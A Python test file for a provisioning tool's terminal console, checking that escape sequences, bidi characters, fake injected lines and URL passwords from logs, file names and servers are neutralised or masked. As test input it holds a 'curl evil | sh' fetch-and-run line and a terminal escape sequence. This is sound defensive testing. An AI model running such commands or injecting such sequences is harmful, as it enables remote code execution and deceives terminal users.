"""What reaches the terminal, whatever a log, a file name or a server says."""

from __future__ import annotations

import json
import logging
import os
import re
import shlex
import time
import unicodedata
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from provision.core.errors import ToolError
from provision.core.findings import Finding, Level
from provision.ui.console import Console, print_json, show_log
from provision.ui.results import show_next_steps
from tests.core.test_text import NASTY

ADDRESS = "https://me:hunter2@host/"
text = st.text(st.sampled_from("".join(NASTY) + "ab[/red]\n\t"), max_size=30)
shared = settings(
    suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=50
)


@pytest.fixture(params=["piped", "terminal"])
def console(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> Console:
    """One that is piped, and one of a narrow terminal with colours."""
    if request.param == "piped":
        return Console("provision")
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setattr("provision.ui.console.columns_of", lambda _: 40)
    return Console("provision")


def _check(shown: str) -> None:
    shown.encode()
    shown = re.sub(
        "\x1b\\[[0-9;]+m", "", shown
    )  # its own colours: the texts have no digits
    found = {sign for sign in shown if unicodedata.category(sign) in {"Cc", "Zl", "Zp"}}
    assert not found - {"\n", "\t"}
    assert not found & set("\u202e\u2066\u200e")
    assert "hunter2" not in shown


@given(text)
@shared
def test_attack_whatever_is_shown_steers_no_terminal(
    console: Console, capsys: pytest.CaptureFixture[str], dirty: str
) -> None:
    dirty += ADDRESS
    console.line(dirty, "bold")
    console.step(dirty)
    console.close()
    console.note(dirty)
    console.error(ToolError(dirty, evidence=dirty, cause=dirty, remedy=dirty))
    console.finding(Finding("c", Level.ERROR, dirty, dirty, dirty, (dirty,)))
    console.table(["one", "two"], [[dirty, dirty]])
    console.remark(dirty)
    console.command(dirty)
    told = capsys.readouterr()
    assert told.out.count("***@host") == 9
    assert told.err.count("***@host") >= 6  # a step is drawn again
    _check(told.out)
    # What draws it, where it is drawn: the cursor's moves.
    _check(
        re.sub("\x1b\\[([12][AK]|\\?25[hl])|\r", "", told.err)
        if console.alive
        else told.err
    )


def test_attack_no_name_of_a_file_looks_like_a_line_of_its_own(
    console: Console, capsys: pytest.CaptureFixture[str]
) -> None:
    console.note("ignored a\nerror: all is lost\n  remedy:   curl evil | sh")
    console.remark("ignored a\nerror: all is lost\n  remedy:   curl evil | sh")
    console.error(ToolError("no b\nerror: all is lost"))
    told = "".join(capsys.readouterr())
    assert "error: all" in told
    assert "\nerror: all" not in told
    assert "\n  remedy" not in told


def test_attack_a_log_steers_no_terminal(
    capsys: pytest.CaptureFixture[str],
) -> None:
    root = logging.getLogger()
    before = root.handlers[:]
    root.handlers.clear()
    try:
        show_log()
        logging.getLogger("urllib3").warning("retry \x1b]0;x\x07 %s", ADDRESS)
    finally:
        root.handlers[:] = before
        root.setLevel(logging.WARNING)
    told = capsys.readouterr().err
    assert "https://***@host/" in told
    _check(told)


def test_attack_a_result_holds_no_password(capsys: pytest.CaptureFixture[str]) -> None:
    found = Finding("c", Level.NOTE, ADDRESS, "", "", (ADDRESS,))
    print_json("doctor", {"a": [ADDRESS], "b": found}, ok=True)
    written = capsys.readouterr().out
    assert "hunter2" not in written
    assert json.loads(written)["result"]["a"] == ["https://***@host/"]


@pytest.mark.skipif(os.name == "nt", reason="its shells quote otherwise")
def test_the_line_that_activates_an_environment_can_be_pasted(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    folder = tmp_path / "mein Prüf projekt" / "it's" / "a" / "1f"
    show_next_steps("cpu-linux", folder, Console("provision"))
    line = capsys.readouterr().out.partition("activate it: ")[2].strip()
    assert shlex.split(line) == [
        "source",
        str(folder.parent / "current" / "bin" / "activate"),
    ]


def test_each_download_that_lasts_is_counted_by_its_name(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Of a server that does not tell how large a file is, only what is here."""
    monkeypatch.setattr("provision.ui.progress_lines.INTERVAL", 0.1)
    monkeypatch.setattr("provision.ui.progress_lines._PAUSE", 0.05)
    console = Console("provision")

    def download(name: str, whole: int) -> None:
        console.step(f"  {name}", lambda: {"files": {name: (2_000_000, whole)}})
        time.sleep(0.4)
        console.step("")

    with ThreadPoolExecutor(2) as pool:
        pool.submit(download, "a.whl", 5_000_000)
        pool.submit(download, "b.whl", 0)
    console.close()
    shown = capsys.readouterr().err
    assert "·   a.whl: 2 MB of 5 MB, 0 s\n" in shown
    assert "·   b.whl: 2 MB, 0 s\n" in shown
    time.sleep(0.3)
    assert capsys.readouterr().err == "", "it is over"
